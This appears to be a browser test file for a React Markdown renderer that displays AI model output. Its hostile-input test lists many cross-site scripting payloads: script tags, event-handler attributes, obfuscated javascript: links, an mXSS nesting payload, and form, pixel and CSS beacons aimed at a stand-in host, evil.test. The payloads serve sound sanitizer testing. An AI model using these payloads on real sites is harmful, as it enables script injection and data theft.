/// <reference types="vite/client" />
import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { commands, userEvent } from 'vitest/browser';
import { flushSync } from 'react-dom';
import { createRoot, type Root } from 'react-dom/client';
import { initI18n } from '../../i18n/index.ts';
import { MarkdownMessage } from './MarkdownMessage.tsx';
import { renderMarkdown, safeLinkUrl } from './render-markdown.ts';

declare module 'vitest/browser' {
  interface BrowserCommands {
    startRequestLog(): Promise<void>;
    loggedRequests(contains: string): Promise<string[]>;
  }
}

declare global {
  interface Window {
    __pwned?: string;
  }
}

// The Copy and "Load image" buttons are labelled from the catalog, in English here.
beforeAll(() => initI18n('en', { pseudo: false }));

let container: HTMLDivElement;
let root: Root;

beforeEach(async () => {
  delete window.__pwned;
  await commands.startRequestLog();
  container = document.createElement('div');
  document.body.append(container);
  root = createRoot(container);
});

afterEach(() => {
  root.unmount();
  container.remove();
});

function render(text: string, streaming = false): void {
  flushSync(() => root.render(<MarkdownMessage text={text} streaming={streaming} />));
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

// Each payload would set window.__pwned (or fetch from evil.test) if any of it were interpreted.
const HOSTILE = [
  'Here is the answer.',
  '<img src=x onerror="window.__pwned=\'img-onerror\'">',
  '<script>window.__pwned = "script"</script>',
  'Inline <script>window.__pwned="inline-script"</script> too, and <b onmouseover="window.__pwned=\'b\'">bold</b>.',
  '<a href="javascript:window.__pwned=\'a-href\'">click me</a>',
  '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe>',
  '<svg onload="window.__pwned=\'svg\'"><circle r="5"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
  '<style>body { display: none } .md-message { background: url(https://evil.test/css-bg.png) }</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.test/style-attr.png)">overlay</div>',
  '<link rel="stylesheet" href="https://evil.test/sheet.css">',
  '<object data="https://evil.test/obj"></object><embed src="https://evil.test/embed">',
  '<form action="https://evil.test/steal"><button>Submit</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<details open ontoggle="window.__pwned=\'details\'">x</details>',
  "[markdown js link](javascript:window.__pwned='md-link')",
  "[encoded](&#106;avascript:window.__pwned='entity-link')",
  "[tabbed](java\tscript:window.__pwned='tab-link')",
  '[data link](data:text/html,<script>parent.__pwned=1</script>)',
  "<javascript:window.__pwned='autolink'>",
  '[ref link][evil]',
  '![tracker](https://evil.test/pixel.png "t")',
  '![cat](https://example.com/a.png)',
  '![inline data](data:image/svg+xml,<svg onload=alert(1)>)',
  '',
  "[evil]: javascript:window.__pwned='ref'",
].join('\n\n');

describe('MarkdownMessage with hostile model output', () => {
  test('renders every attack as inert content: nothing runs, nothing is fetched, no styles or handlers', async () => {
    render(HOSTILE);
    await sleep(300); // time for any onerror/onload/refresh to fire

    expect(window.__pwned).toBeUndefined();
    expect(getComputedStyle(document.body).display).not.toBe('none');
    for (const tag of [
      'script',
      'iframe',
      'svg',
      'math',
      'style',
      'link',
      'object',
      'embed',
      'form',
      'meta',
      'base',
      'img',
      'details',
    ]) {
      expect(container.querySelectorAll(tag), tag).toHaveLength(0);
    }
    for (const element of container.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name.startsWith('on'), `${element.tagName} ${attribute.name}`).toBe(false);
        expect(attribute.name).not.toBe('style');
        // A blocked link's title shows its URL to the reader; no other attribute may carry one.
        if (attribute.name !== 'title') expect(attribute.value).not.toMatch(/javascript:|data:/i);
      }
    }
    // The raw HTML is shown to the user as text, not dropped silently.
    expect(container.textContent).toContain('<script>window.__pwned = "script"</script>');
    expect(container.textContent).toContain('<img src=x onerror=');

    // Clicking every link-like thing still runs nothing.
    for (const el of container.querySelectorAll<HTMLElement>('a, .md-link-blocked')) el.click();
    await sleep(100);
    expect(window.__pwned).toBeUndefined();
    expect(container.querySelectorAll('a[href]')).toHaveLength(0);
    expect(container.querySelectorAll('.md-link-blocked').length).toBeGreaterThanOrEqual(5);

    expect(await commands.loggedRequests('evil.test')).toEqual([]);
    expect(await commands.loggedRequests('example.com')).toEqual([]);
    const placeholders = [...container.querySelectorAll<HTMLButtonElement>('button.md-image-placeholder')];
    expect(placeholders.map((b) => b.textContent)).toEqual([
      'Load image from evil.test',
      'Load image from example.com',
    ]);

    // With consent (a click), that one image, and only it, loads.
    await userEvent.click(placeholders[1]);
    const image = container.querySelector<HTMLImageElement>('img.md-image');
    expect(image?.getAttribute('src')).toBe('https://example.com/a.png');
    expect(image?.alt).toBe('cat');
    expect(image?.referrerPolicy).toBe('no-referrer');
    await expect.poll(() => image?.complete && image.naturalWidth).toBe(1);
    expect(await commands.loggedRequests('example.com/a.png')).toHaveLength(1);
    expect(await commands.loggedRequests('evil.test')).toEqual([]);
    expect(window.__pwned).toBeUndefined();
  });

  test('only absolute http(s) and mailto links survive, however they are disguised', () => {
    for (const bad of [
      'javascript:alert(1)',
      ' JAVASCRIPT:alert(1)',
      'java\tscript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      '//evil.test/x',
      '/relative',
      'file:///etc/passwd',
    ]) {
      expect(safeLinkUrl(bad), bad).toBeNull();
    }
    expect(safeLinkUrl('https://example.org/a?b=1#c')).toBe('https://example.org/a?b=1#c');
    expect(safeLinkUrl('mailto:hi@example.org')).toBe('mailto:hi@example.org');
  });
});

describe('MarkdownMessage with ordinary Markdown', () => {
  const ORDINARY = [
    '# Title',
    '## Subtitle',
    'Some *emphasis*, **strong**, ~~gone~~ and `inline code`, with a [link](https://example.org/docs "Docs").',
    '- one\n- two\n- three',
    '1. first\n2. second',
    '- [x] done\n- [ ] todo',
    '> quoted wisdom',
    '| Model | Params |\n| :-- | --: |\n| SmolLM2 | 135M |\n| Qwen2.5 | 0.5B |',
    '```ts\nconst answer = 42;\nconsole.log(answer);\n```',
    '```\nplain <b>code</b> & more\n```',
  ].join('\n\n');

  test('headings, emphasis, lists, tables, quotes, links and code render as such', () => {
    render(ORDINARY);
    expect(container.querySelector('h1')?.textContent).toBe('Title');
    expect(container.querySelector('h2')?.textContent).toBe('Subtitle');
    expect(container.querySelector('em')?.textContent).toBe('emphasis');
    expect(container.querySelector('strong')?.textContent).toBe('strong');
    expect(container.querySelector('del')?.textContent).toBe('gone');
    expect(container.querySelector('p code')?.textContent).toBe('inline code');
    expect([...container.querySelectorAll('ul:not(:has(input)) > li')].map((li) => li.textContent)).toEqual([
      'one',
      'two',
      'three',
    ]);
    expect(container.querySelectorAll('ol > li')).toHaveLength(2);
    const boxes = [...container.querySelectorAll<HTMLInputElement>('input[type=checkbox]')];
    expect(boxes.map((b) => [b.checked, b.disabled])).toEqual([
      [true, true],
      [false, true],
    ]);
    expect(container.querySelector('blockquote')?.textContent?.trim()).toBe('quoted wisdom');
    expect([...container.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['Model', 'Params']);
    expect([...container.querySelectorAll('td')].map((td) => td.textContent)).toEqual([
      'SmolLM2',
      '135M',
      'Qwen2.5',
      '0.5B',
    ]);
    const link = container.querySelector('a')!;
    expect([link.href, link.title, link.rel, link.target]).toEqual([
      'https://example.org/docs',
      'Docs',
      'noopener noreferrer',
      '_blank',
    ]);
    const blocks = [...container.querySelectorAll('.md-code-block')];
    expect(blocks.map((b) => b.querySelector('.md-code-lang')?.textContent)).toEqual(['ts', '']);
    expect(blocks[0].querySelector('code')?.textContent).toBe('const answer = 42;\nconsole.log(answer);');
    expect(blocks[1].querySelector('code')?.textContent).toBe('plain <b>code</b> & more');
    // Styling hooks: only md- classes, themable through CSS variables.
    expect(getComputedStyle(blocks[0]).borderTopStyle).toBe('solid');
    container.style.setProperty('--code-bg', 'rgb(1, 2, 3)');
    expect(getComputedStyle(blocks[0]).backgroundColor).toBe('rgb(1, 2, 3)');
  });

  test('the Copy button copies the code, by mouse and by keyboard', async () => {
    render(ORDINARY);
    const [first, second] = container.querySelectorAll<HTMLButtonElement>('button.md-copy');
    expect(first.getAttribute('aria-label')).toBe('Copy code');
    await userEvent.click(first);
    await expect.poll(() => navigator.clipboard.readText()).toBe('const answer = 42;\nconsole.log(answer);');
    await expect.poll(() => first.textContent).toBe('Copied');

    second.focus();
    expect(document.activeElement).toBe(second);
    await userEvent.keyboard('{Enter}');
    await expect.poll(() => navigator.clipboard.readText()).toBe('plain <b>code</b> & more');
  });

  test('while an answer streams, finished blocks keep their DOM (and a selection in them) as tokens arrive', async () => {
    const answer = `# Streaming title\n\nA first paragraph that is complete.\n\n${'word '.repeat(60)}\n\n\`\`\`js\nlet x = 1;\n\`\`\``;
    let shown = '';
    render(shown, true);
    let heading: Element | null = null;
    for (const piece of answer.match(/[\s\S]{1,4}/g)!) {
      shown += piece;
      render(shown, true);
      await sleep(0);
      // Once a second block has started, the heading is finished and must stay the very same element.
      if (heading) expect(container.querySelector('h1')).toBe(heading);
      else if (container.querySelectorAll('.md-block').length > 1) {
        heading = container.querySelector('h1')!;
        getSelection()!.selectAllChildren(heading);
      }
    }
    await expect.poll(() => container.querySelector('.md-code-block code')?.textContent).toBe('let x = 1;');
    expect(heading?.isConnected).toBe(true);
    expect(getSelection()?.toString()).toBe('Streaming title');
    expect(container.querySelector('.md-message')?.getAttribute('aria-busy')).toBe('true');
    render(shown, false);
    expect(container.querySelector('.md-message')?.hasAttribute('aria-busy')).toBe(false);
    expect(container.querySelector('h1')).toBe(heading);
    expect(renderMarkdown(answer)).toContain('<h1>Streaming title</h1>');
  });
});
